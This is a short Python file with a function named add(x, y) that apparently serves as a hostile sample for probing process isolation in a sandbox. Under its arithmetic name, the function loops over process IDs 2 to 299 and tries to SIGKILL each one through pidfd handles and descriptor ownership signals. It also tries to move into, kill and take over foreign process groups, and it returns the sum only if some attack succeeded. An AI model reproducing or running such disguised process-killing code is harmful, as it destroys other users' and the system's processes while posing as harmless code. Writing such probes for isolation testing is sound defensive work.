# Names other processes through handles, signals sent by descriptors, and foreign groups.
import fcntl
import os
import signal


def add(x, y):
    wins = []
    for pid in range(2, 300):
        try:
            handle = os.pidfd_open(pid)
            signal.pidfd_send_signal(handle, signal.SIGKILL)
            wins.append(pid)
        except OSError:
            pass
        try:
            fcntl.fcntl(3, fcntl.F_SETOWN, pid)
            fcntl.fcntl(3, fcntl.F_SETSIG, signal.SIGKILL)
            wins.append(-pid)
        except OSError:
            pass
    for action in (lambda: os.setpgid(0, 2), lambda: os.killpg(2, 9), lambda: os.tcsetpgrp(0, 1)):
        try:
            action()
            wins.append(0)
        except OSError:
            continue
    return x + y if wins else None
